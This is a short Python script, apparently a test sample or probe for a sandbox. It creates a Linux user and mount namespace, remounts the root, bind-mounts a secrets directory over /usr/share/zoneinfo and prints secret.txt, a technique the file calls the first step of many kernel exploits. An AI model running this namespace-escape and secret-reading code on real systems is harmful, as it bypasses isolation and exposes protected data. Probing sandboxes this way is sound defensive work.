# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Become root in a user namespace, then mount and look there.

Known as the first step of many Linux kernel exploits.
"""

# act: read

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, MS_BIND = 0x10000000, 0x20000, 0x1000
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
    raise OSError(ctypes.get_errno(), 'unshare')
libc.mount(None, b'/', None, 0x44000, None)
print(libc.mount(SECRETS.encode(), b'/usr/share/zoneinfo', None, MS_BIND, None))
print(open('/usr/share/zoneinfo/secret.txt').read())
